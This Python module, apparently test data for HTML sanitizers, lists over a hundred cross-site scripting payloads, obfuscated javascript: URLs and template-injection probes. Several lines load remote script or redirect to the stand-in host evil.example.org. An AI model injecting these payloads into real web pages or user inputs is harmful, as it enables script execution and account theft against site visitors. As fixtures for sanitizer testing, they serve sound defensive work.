"""Texts that a careless page would run, load or be led astray by: a hundred and more."""

from __future__ import annotations

_RUN = "alert(1)"
ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x0c>{_RUN}</script>",
    "<script src=https://evil.example.org/x.js></script>",
    "<script src=//evil.example.org/x.js>",
    f"<<script>{_RUN}//<</script>",
    "<base href=https://evil.example.org/>",
    "<link rel=stylesheet href=//evil.example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<style>@import '//evil.example.org/x.css';</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    f'<iframe srcdoc="<script>{_RUN}</script>">',
    "<iframe src=javascript:alert(1)>",
    "<form action=https://evil.example.org><button>",
    f"<svg><script>{_RUN}</script></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
HANDLERS = [
    f"<{tag} {event}={_RUN}>"
    for tag, event in (
        ("img src=x", "onerror"), ("svg/onload=x", "onload"), ("body", "onload"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("div", "onpointerover"), ("a href=#", "onclick"), ("p style=animation-name:x", "onanimationstart"),
        ("textarea autofocus", "onfocus"), ("iframe", "onload"), ("object data=x", "onerror"),
        ("button popovertarget=x", "onbeforetoggle"), ("form", "onsubmit"), ("image src=x", "onerror"),
    )
]  # fmt: skip
_BREAKS = [
    f"{quote}{middle}{event}={_RUN} x={quote}"
    for quote in ('"', "'", "`", "")
    for middle in (" ", "/", "\t", "\n", ">")
    for event in ("onmouseover", "autofocus onfocus")
]
ADDRESSES = [
    f"{scheme}{_RUN}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
        "\x01javascript:", "vbscript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:",
        "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "jar:javascript:",
        "//evil.example.org/", "\\\\evil.example.org\\", "blob:https://x/",
    )
]  # fmt: skip
_TEMPLATES = ["{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__}}"]
PAYLOADS = [*ELEMENTS, *HANDLERS, *_BREAKS, *ADDRESSES, *_TEMPLATES]
